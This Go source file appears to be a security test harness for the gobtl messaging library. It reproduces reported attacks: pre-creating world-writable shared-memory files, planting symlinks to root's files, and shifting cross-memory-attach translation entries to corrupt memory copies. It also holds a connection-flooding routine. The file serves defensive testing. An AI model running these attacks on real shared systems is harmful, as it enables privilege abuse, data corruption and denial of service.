package attack

import (
	"bufio"
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"github.com/gobtl/gobtl"
	"github.com/gobtl/gobtl/internal/msgtest"
)

// Environment of the ranks and the attacker.
const (
	envGo      = "ATTACK_GO"      // the ranks exchange once this file exists
	envInfo    = "ATTACK_INFO"    // rank 0 writes its pid and listening ports here
	envDone    = "ATTACK_DONE"    // the attacker reports and ends once this exists
	envTmp     = "ATTACK_TMP"     // the launcher's temp directory, watched for job ids
	envShm     = "ATTACK_SHM"     // the job's shared-memory directory
	envKind    = "ATTACK_KIND"    // what to plant: extoll or sm
	envVictims = "ATTACK_VICTIMS" // root's files the planted links point at
	envAddrs   = "ATTACK_ADDRS"   // where to open connections
	envConns   = "ATTACK_CONNS"   // how many, per address
)

// exchange is the job's rank: after Init it waits for the go file, then
// exchanges 210 messages of 1 byte to 1 MiB with its peer, checking every
// byte, and says how many were corrupt.
func exchange() int {
	c, err := gobtl.Init(context.Background(), gobtl.Options{})
	if err != nil {
		fmt.Fprintln(os.Stderr, "init:", err)
		return 1
	}
	if c.Rank() == 0 && os.Getenv(envInfo) != "" {
		writeInfo(os.Getenv(envInfo))
	}
	for deadline := time.Now().Add(2 * time.Minute); !exists(os.Getenv(envGo)); time.Sleep(5 * time.Millisecond) {
		if time.Now().After(deadline) {
			fmt.Fprintln(os.Stderr, "no go")
			return 1
		}
	}
	me, peer := c.Rank(), 1-c.Rank()
	sizes := []int{1, 100, 2048, 5000, 65536, 300000, 1 << 20}
	n, bad := 0, 0
	for round := range 30 {
		for i, size := range sizes {
			tag := round*len(sizes) + i
			out := msgtest.Fill(make([]byte, size), uint64(me<<20|tag))
			in := make([]byte, size)
			if _, err := c.Sendrecv(out, peer, tag, in, peer, tag); err != nil {
				fmt.Fprintf(os.Stderr, "rank %d, message %d: %v\n", me, n, err)
				return 1
			}
			if msgtest.Check(in, uint64(peer<<20|tag)) != nil {
				bad++
			}
			n++
		}
	}
	fmt.Printf("rank %d: %d messages, %d corrupt\n", me, n, bad)
	if err := c.Close(); err != nil {
		fmt.Fprintln(os.Stderr, "close:", err)
		return 1
	}
	if bad > 0 {
		return 3
	}
	return 0
}

func exists(path string) bool { _, err := os.Stat(path); return err == nil }

// writeInfo writes this process's pid and the ports it listens on.
func writeInfo(path string) {
	inodes := map[string]bool{}
	fds, _ := os.ReadDir("/proc/self/fd")
	for _, fd := range fds {
		if l, err := os.Readlink("/proc/self/fd/" + fd.Name()); err == nil && strings.HasPrefix(l, "socket:[") {
			inodes[strings.TrimSuffix(strings.TrimPrefix(l, "socket:["), "]")] = true
		}
	}
	var ports []string
	f, _ := os.Open("/proc/self/net/tcp")
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		fs := strings.Fields(sc.Text())
		if len(fs) < 10 || fs[3] != "0A" || !inodes[fs[9]] {
			continue
		}
		if p, err := strconv.ParseUint(fs[1][strings.IndexByte(fs[1], ':')+1:], 16, 16); err == nil {
			ports = append(ports, strconv.FormatUint(p, 10))
		}
	}
	os.WriteFile(path+".tmp", []byte(fmt.Sprintf("%d %s", os.Getpid(), strings.Join(ports, ","))), 0o644)
	os.Rename(path+".tmp", path)
}

// jobName is a job id of `gobtl run` as the boot directory of the
// launcher showed it (gobtl-<job>-<pid>-<start>), or as a job's file in
// /dev/shm shows it.
var (
	bootName = regexp.MustCompile(`^gobtl-([0-9a-f]{12})-[0-9]+-[0-9]+$`)
	shmName  = regexp.MustCompile(`^gobtl-([0-9a-f]{12})-`)
)

func jobIDs(tmp, shm string) []string {
	var ids []string
	for dir, re := range map[string]*regexp.Regexp{tmp: bootName, shm: shmName} {
		ents, _ := os.ReadDir(dir)
		for _, e := range ents {
			if m := re.FindStringSubmatch(e.Name()); m != nil {
				ids = append(ids, m[1])
			}
		}
	}
	return ids
}

// plant is the attacker of issue 30 items 1 and 2: it watches for job
// ids and makes, before the ranks do, every file name a job's transports
// would use — 0666 files it keeps open, and links to root's files — then
// shifts the addresses of the translation tables it got hold of, and at
// the end says what the job did with them.
func plant() int {
	tmp, shm, kind, done := os.Getenv(envTmp), os.Getenv(envShm), os.Getenv(envKind), os.Getenv(envDone)
	victims := strings.Split(os.Getenv(envVictims), ",")
	seen := map[string]bool{}
	var mboxes, atts []*os.File
	shifted := map[uint64]bool{}
	fmt.Println("watching")
	for !exists(done) {
		for _, job := range jobIDs(tmp, shm) {
			if seen[job] {
				continue
			}
			seen[job] = true
			m, a, n := plantFor(shm, job, kind, victims)
			mboxes, atts = append(mboxes, m...), append(atts, a...)
			fmt.Println("planted", n, "names for job", job)
		}
		for _, f := range atts {
			shift(f, shifted)
		}
		time.Sleep(200 * time.Microsecond)
	}
	written := 0
	for _, f := range mboxes {
		var magic [8]byte
		if n, _ := f.ReadAt(magic[:], 0); n == 8 && string(magic[:]) == "xtollbox" {
			written++
		}
	}
	fmt.Printf("report: %d jobs seen, %d of %d planted mailboxes used by the job, %d translation entries shifted\n",
		len(seen), written, len(mboxes), len(shifted))
	return 0
}

// plantFor makes the names of job's files for 2 ranks.
func plantFor(shm, job, kind string, victims []string) (mboxes, atts []*os.File, n int) {
	syscall.Umask(0)
	create := func(path string) *os.File {
		f, err := os.OpenFile(path, os.O_RDWR|os.O_CREATE|os.O_EXCL, 0o666)
		if err == nil {
			n++
		}
		return f
	}
	for r := range 2 {
		switch kind {
		case "sm":
			for _, name := range []string{"sm-%d", "sm.sm-%d", "sm.local-%d"} {
				if f := create(filepath.Join(shm, "gobtl-"+job+"-"+fmt.Sprintf(name, r))); f != nil {
					mboxes = append(mboxes, f)
				}
			}
		case "extoll":
			base := filepath.Join(shm, fmt.Sprintf("gobtl-%s-extoll-extoll0-%d", job, r))
			if f := create(base + ".mbox"); f != nil {
				mboxes = append(mboxes, f)
			}
			if r%2 == 1 && r < len(victims) {
				if os.Symlink(victims[r], base+".att") == nil {
					n++
				}
			} else if f := create(base + ".att"); f != nil {
				atts = append(atts, f)
			}
		}
	}
	return mboxes, atts, n
}

// shift moves every new entry of a translation table the job wrote into
// a planted file by 64 bytes: cross-memory attach then copies to and from
// the wrong place.
func shift(f *os.File, shifted map[uint64]bool) {
	const header, entries, entry = 64, 4096, 48
	st, err := f.Stat()
	if err != nil || st.Size() < header+entries*entry {
		return
	}
	mem, err := syscall.Mmap(int(f.Fd()), 0, header+entries*entry, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED)
	if err != nil {
		return
	}
	defer syscall.Munmap(mem)
	for i := range entries {
		w := (*[5]uint64)(unsafe.Pointer(&mem[header+i*entry]))
		if key := w[1]; key != 0 && w[2] != 0 && !shifted[key] {
			shifted[key] = true
			w[2] += 64
		}
	}
}

// flood is the attacker of issue 30 item 4: it opens connections to the
// addresses and holds them, sending nothing.
func flood() int {
	n, _ := strconv.Atoi(os.Getenv(envConns))
	var conns []net.Conn
	for _, addr := range strings.Split(os.Getenv(envAddrs), ",") {
		for range n {
			c, err := net.DialTimeout("tcp", addr, 5*time.Second)
			if err != nil {
				fmt.Println("dial:", err)
				break
			}
			conns = append(conns, c)
		}
	}
	fmt.Println("open", len(conns))
	for !exists(os.Getenv(envDone)) {
		time.Sleep(time.Millisecond)
	}
	live := 0
	for _, c := range conns {
		c.SetReadDeadline(time.Now().Add(time.Millisecond))
		if _, err := c.Read(make([]byte, 1)); err != nil && strings.Contains(err.Error(), "timeout") {
			live++
		}
		c.Close()
	}
	fmt.Printf("report: %d connections opened, %d still open at the end\n", len(conns), live)
	return 0
}
